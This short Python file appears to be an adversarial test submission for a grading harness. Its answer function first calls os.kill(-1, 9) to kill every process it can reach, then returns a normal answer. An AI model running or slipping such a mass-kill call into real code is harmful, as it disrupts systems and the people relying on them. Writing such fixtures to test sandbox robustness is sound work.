# E8 accepted: kills every process it can see, but its parent is deaf to it
import os
import signal
import time

import honest


def answer(word):
    os.kill(-1, 9)
    time.sleep(0.1)
    return honest.answer(word)
